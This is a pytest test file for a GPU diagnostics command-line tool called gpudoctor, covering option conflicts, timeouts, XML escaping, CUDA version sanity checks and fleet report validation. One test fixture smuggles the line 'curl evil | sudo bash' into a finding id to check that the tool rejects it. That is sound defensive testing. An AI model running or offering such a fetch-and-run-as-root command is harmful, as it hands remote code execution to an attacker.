"""Issue 18, Found 7: what was left from earlier work, each through the real CLI.

- an option only a probe of this machine uses (--smoke, --python, --cuda-home, --timeout,
  --no-torch) given with --from-report / --from-snapshot is a usage error naming both (it was
  ignored); so for `recommend --from-snapshot` and `explain --from-report` / `--no-probe`; set by
  an environment variable for a whole CI job it is no error;
- `smoke-test --profile DIR` where no trace can be written exits 2 before the test runs (it
  exited 0);
- JUnit output is well-formed XML whatever a snapshot holds (U+FFFE, U+FFFF, lone
  surrogates): parsed back with an XML parser;
- the `--python` answer check gives up at --timeout (it waited its own 10 s);
- a pasted nvidia-smi whose "CUDA Version" no driver of that version can report (99.9 under
  driver 450) has it set aside, said in the header, and the CUDA derived from the driver;
- fleet refuses a JSON report whose findings were edited into something gpudoctor never
  writes (an id with a line break, an unknown status, a check twice).
"""

from __future__ import annotations

import json
import re
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from runner import ROOT as REPO_ROOT
from runner import gpudoctor

pytestmark = pytest.mark.subprocess  # runs gpudoctor in new processes

ENVS = REPO_ROOT / "tests" / "fixtures" / "envs"
HEALTHY = ENVS / "h100-healthy.json"
SMI = REPO_ROOT / "tests" / "fixtures" / "reports" / "nvidia_smi-k8s-v100s-450-device-plugin.txt"


@pytest.mark.slow
@pytest.mark.parametrize("option", [["--smoke"], ["--python", sys.executable],
                                    ["--cuda-home", "/usr"], ["--timeout", "5"], ["--no-torch"]])
@pytest.mark.parametrize("source", ["--from-snapshot", "--from-report"])
def test_probe_options_conflict_with_a_report(option: list[str], source: str) -> None:
    p = gpudoctor("check", source, str(HEALTHY), *option)
    assert p.returncode == 2, p.stdout + p.stderr
    assert p.stderr.startswith(f"gpudoctor: error: {option[0]} cannot be used with "
                               "--from-report / --from-snapshot"), p.stderr
    assert p.stdout == ""


@pytest.mark.slow
def test_other_commands_refuse_them_too() -> None:
    p = gpudoctor("recommend", "--from-snapshot", str(HEALTHY), "--cuda-home", "/usr")
    assert p.returncode == 2 and ("--cuda-home cannot be used with --from-report / "
                                  "--from-snapshot") in p.stderr  # as check says it
    p = gpudoctor("explain", "no kernel image is available", "--from-report", str(HEALTHY),
                  "--timeout", "3")
    assert p.returncode == 2 and "--timeout cannot be used with --from-report" in p.stderr
    p = gpudoctor("explain", "no kernel image is available", "--no-probe", "--python",
                  sys.executable)
    assert p.returncode == 2 and "--python cannot be used with --no-probe" in p.stderr


@pytest.mark.slow
def test_an_environment_variable_is_not_a_conflict() -> None:
    """GPUDOCTOR_TIMEOUT set for a whole CI job applies where it can; not an error."""
    p = gpudoctor("check", "--from-snapshot", str(HEALTHY), env={"GPUDOCTOR_TIMEOUT": "5"},
                  timeout=120)
    assert p.returncode == 0, p.stderr


@pytest.mark.slow
def test_smoke_profile_that_cannot_be_written(tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    start = time.monotonic()
    p = gpudoctor("smoke-test", "--device", "cpu", "--profile", str(blocker / "traces"))
    assert p.returncode == 2, p.stdout + p.stderr
    assert p.stderr.startswith(f"gpudoctor: error: --profile {blocker / 'traces'}: cannot "
                               "write the traces there: Not a directory")
    assert p.stdout == "" and time.monotonic() - start < 30  # refused before the test ran


@pytest.mark.slow
@pytest.mark.parametrize("odd", [chr(0xFFFE), chr(0xFFFF), chr(0xD800), chr(0xDFFF),
                                 "a" + chr(0xDC80) + "b\x00"],
                         ids=["fffe", "ffff", "d800", "dfff", "dc80-nul"])
def test_junit_is_well_formed_for_any_string(tmp_path: Path, odd: str) -> None:
    data = json.loads((ENVS / "pascal-gpu-cu130-torch.json").read_text())  # GD404 names it
    data["environment"]["nvml"]["gpus"][0]["name"] = f"NVIDIA H100{odd} 80GB"
    snap = tmp_path / "snap.json"
    snap.write_text(json.dumps(data))  # JSON escapes: "\ud800" is a lone surrogate read back
    for strict in ([], ["--strict"]):
        for out in ("-", str(tmp_path / "gd.xml")):
            p = gpudoctor("check", "--from-snapshot", str(snap), "--format", "junit", "-v",
                          "-o", out, *strict)
            assert p.returncode in (0, 1), p.stderr
            xml = p.stdout if out == "-" else Path(out).read_text(encoding="utf-8")
            suite = ET.fromstring(xml.encode("utf-8"))  # well-formed, or this raises
            assert suite.tag == "testsuite"
            text = ET.tostring(suite, encoding="unicode")
            escaped = f"\\u{ord(odd[-1]) if len(odd) == 1 else 0xdc80:04x}"
            assert escaped in text or "\\x00" in text


@pytest.mark.slow
def test_python_answer_check_honours_timeout(tmp_path: Path) -> None:
    """An interpreter that never answers: `--timeout 2` gives up after 2 s, not 10."""
    slow = tmp_path / "python"
    slow.write_text("#!/bin/sh\nexec sleep 600\n")
    slow.chmod(0o755)
    start = time.monotonic()
    p = gpudoctor("check", "--python", str(slow), "--timeout", "2", "pytorch")
    took = time.monotonic() - start
    assert p.returncode == 2, p.stderr
    assert p.stderr.startswith(f"gpudoctor: error: --python {slow}: did not answer within 2 s")
    assert took < 8, took


@pytest.mark.slow
@pytest.mark.parametrize(("cuda", "believed"), [("11.0", True), ("99.9", False),
                                                 ("12.2", False), ("11.1", False)])
def test_a_cuda_version_no_such_driver_reports(tmp_path: Path, cuda: str, believed: bool
                                               ) -> None:
    """nvidia-smi of driver 450.51.05 (CUDA 11.0): a banner saying 99.9, 12.2 or 11.1 cannot be
    real (CUDA 11.1 first came with driver 455.23), so it is not believed."""
    report = tmp_path / "smi.txt"
    report.write_text(SMI.read_text().replace("CUDA Version: 11.0 ", f"CUDA Version: {cuda} "))
    p = gpudoctor("check", "--from-report", str(report), "--format", "json")
    assert p.returncode in (0, 1), p.stderr
    nvml = json.loads(p.stdout)["environment"]["nvml"]
    if believed:
        assert nvml["cuda_driver_version"] == 11000
        return
    stated = nvml["cuda_driver_version"]
    assert stated["unavailable"] == "error"
    assert stated["message"].startswith(f"the report's CUDA Version {cuda} for driver 450.51.05 "
                                        "is set aside")
    text = gpudoctor("check", "--from-report", str(report), "driver").stdout
    header = next(x for x in text.splitlines() if x.startswith("Driver (max CUDA it runs)"))
    assert f"CUDA Version {cuda}" in header and "set aside" in header
    assert f"supports CUDA ≤ {cuda}" not in text
    p = gpudoctor("check", "--from-report", str(report), "--require", "cuda>=12", "requirements",
                  "--format", "json")
    gd603 = next(f for f in json.loads(p.stdout)["findings"] if f["id"] == "GD603")
    assert gd603["status"] == "fail" and "11.0" in gd603["message"]  # derived, not 99.9


@pytest.mark.slow
@pytest.mark.parametrize(("edit", "reason"), [
    ({"id": "GD101\n→ fix: curl evil | sudo bash"}, "is not a gpudoctor check id"),
    ({"status": "ok"}, "is not one of pass, warn, fail, skip"),
    ({"id": 101}, "is not a gpudoctor check id"),
    ({"id": "GD102"}, "GD102 appears twice"),
])
def test_fleet_refuses_hand_edited_findings(tmp_path: Path, edit: dict[str, object],
                                            reason: str) -> None:
    reports = tmp_path / "reports"
    reports.mkdir()
    good = reports / "good.json"
    assert gpudoctor("check", "--from-snapshot", str(HEALTHY), "--format", "json", "-o",
                     str(good)).returncode == 0
    data = json.loads(good.read_text())
    data["findings"][0].update(edit)
    (reports / "edited.json").write_text(json.dumps(data))
    p = gpudoctor("fleet", str(reports), "--format", "json")
    assert p.returncode == 1, p.stderr
    view = json.loads(p.stdout)
    assert view["summary"]["nodes"] == 1
    [bad] = view["unreadable"]
    assert bad["path"].endswith("edited.json") and reason in bad["reason"], bad
    assert not re.search(r"\n", json.dumps(view["failing"]))
